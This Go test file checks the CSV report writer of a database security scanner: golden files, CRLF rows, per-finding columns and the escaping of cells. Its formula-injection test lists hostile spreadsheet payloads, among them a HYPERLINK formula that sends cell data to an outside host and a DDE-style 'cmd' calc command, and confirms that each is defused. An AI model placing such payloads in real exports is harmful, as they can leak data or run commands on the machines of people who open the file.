package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/wardsec/ward/internal/inventory"
)

func TestWriteCSVGolden(t *testing.T) {
	for _, tt := range []struct {
		name string
		scan *inventory.ScanResult
	}{
		{"sample", sampleScan()},
		{"history", historyScan()},
		{"empty", &inventory.ScanResult{}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			golden(t, tt.name+"/report.csv", render(t, tt.scan, WriteCSV))
		})
	}
}

// readCSV parses out as RFC 4180 and returns its rows keyed by header.
func readCSV(t *testing.T, out []byte) []map[string]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("output is not valid CSV: %v", err)
	}
	if len(rows) == 0 {
		t.Fatal("no header row")
	}
	var out2 []map[string]string
	for _, r := range rows[1:] {
		m := map[string]string{}
		for i, h := range rows[0] {
			m[h] = r[i]
		}
		out2 = append(out2, m)
	}
	return out2
}

func TestCSVRows(t *testing.T) {
	out := render(t, historyScan(), WriteCSV)
	if !bytes.Contains(out, []byte("\r\n")) {
		t.Error("rows do not end in CRLF as RFC 4180 has them")
	}
	rows := readCSV(t, out)
	if len(rows) != len(historyScan().Findings) {
		t.Fatalf("%d rows, want one per finding (%d)", len(rows), len(historyScan().Findings))
	}
	byRule := map[string]map[string]string{}
	for _, r := range rows {
		byRule[r["rule_id"]] = r
	}
	tests := []struct{ rule, col, want string }{
		{"PG-SUPER-001", "suppressed", "yes"},
		{"PG-SUPER-001", "suppression_until", "2025-06-30"},
		{"PG-SUPER-001", "suppression_origin", "command"},
		{"PG-HBA-003", "suppression_origin", "config"},
		{"PG-SUPER-001", "change", "unchanged"},
		{"PG-SUPER-001", "fix_apply", `ALTER ROLE "etl_loader" NOSUPERUSER;`},
		{"PG-SUPER-001", "evidence", "rolsuper = true\nlogged in 212 times in 30 days\n" +
			"needs only SELECT, UPDATE on ehr.clinical.patients"},
		{"PG-SUPER-001", "citations", citeAccessControl + "; " + citeUniqueUser},
		{"PG-HBA-003", "suppressed", "expired"},
		{"PG-HBA-003", "change", "reopened"},
		{"PG-PRIV-002", "change", "new"},
		{"PG-PRIV-002", "phi", "yes"},
		{"PG-AUDIT-001", "suppressed", "no"},
		{"PG-AUDIT-001", "status", "open"},
	}
	for _, tt := range tests {
		t.Run(tt.rule+"/"+tt.col, func(t *testing.T) {
			if got := byRule[tt.rule][tt.col]; got != tt.want {
				t.Errorf("%s %s = %q, want %q", tt.rule, tt.col, got, tt.want)
			}
		})
	}
}

// TestCSVFormulaInjection checks that no cell a spreadsheet would read as
// a formula survives: names, evidence and reasons come from the scanned
// systems and from people, and a role may be called "=HYPERLINK(...)".
func TestCSVFormulaInjection(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://203.0.113.9/?x="&A1,"click")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(A1:A9)",
		"\t=1+1",
		"\r=1+1",
	}
	var fs []inventory.Finding
	for i, h := range hostile {
		fs = append(fs, inventory.Finding{
			Fingerprint: h, RuleID: h, Severity: inventory.SeverityLow, Title: h,
			Source: h, AccountID: h, Resource: h, Evidence: []string{h},
			Citations: []string{h}, Remediation: h,
			Fix:         &inventory.Fix{Language: "sql", Apply: h, Rollback: h},
			Suppression: &inventory.Suppression{Reason: h, By: h},
		})
		fs[i].Fingerprint += string(rune('a' + i))
	}
	out := render(t, &inventory.ScanResult{Findings: fs}, WriteCSV)
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows[1:] {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d, column %s starts with %q: %q", i+1, rows[0][j], cell[0], cell)
			}
		}
	}
	// Each hostile text is kept, as text after a quote. encoding/csv drops
	// a lone carriage return when it writes CRLF line ends.
	titles := map[string]bool{}
	for _, row := range rows[1:] {
		titles[row[3]] = true
	}
	for _, h := range hostile {
		if want := "'" + strings.ReplaceAll(h, "\r", ""); !titles[want] {
			t.Errorf("title %q is not kept as %q", h, want)
		}
	}
}

func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"ehr/etl_loader", "ehr/etl_loader"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@A1", "'@A1"},
		{"\tx", "'\tx"},
		{"a=1", "a=1"},
		{"'already", "'already"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := SafeCell(tt.in); got != tt.want {
				t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestWriteFindingsCSVStatus(t *testing.T) {
	f := sampleScan().Findings[0]
	f.ResolvedAt = f.LastSeen.AddDate(0, 0, 1)
	var buf bytes.Buffer
	if err := WriteFindingsCSV(&buf, []inventory.Finding{f}); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	if len(rows) != 1 || rows[0]["status"] != "resolved" || rows[0]["change"] != "" {
		t.Errorf("rows = %v, want one resolved finding without a change", rows)
	}
}
